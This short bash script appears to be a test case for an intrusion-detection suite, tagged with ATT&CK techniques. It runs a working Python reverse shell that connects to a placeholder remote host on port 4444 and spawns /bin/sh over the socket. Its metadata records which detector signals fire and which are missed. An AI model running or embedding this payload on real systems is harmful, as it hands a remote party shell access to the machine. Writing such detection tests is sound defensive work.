#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059.006 Python; T1095 Non-Application Layer Protocol
# behaviour: Python connects back, duplicates the socket onto stdin/stdout/stderr and spawns a shell on a pty
# as: user
# needs: remote
# expect: reverse_shell
# known-miss: pty.spawn puts a pseudo-terminal between the socket and the shell, and Python (not a shell) made the connection: only new_destination (low)
set -u
timeout 20 python3 -c "
import os, pty, socket
s = socket.create_connection(('$SNTL_REMOTE', 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn('/bin/sh')
" || true
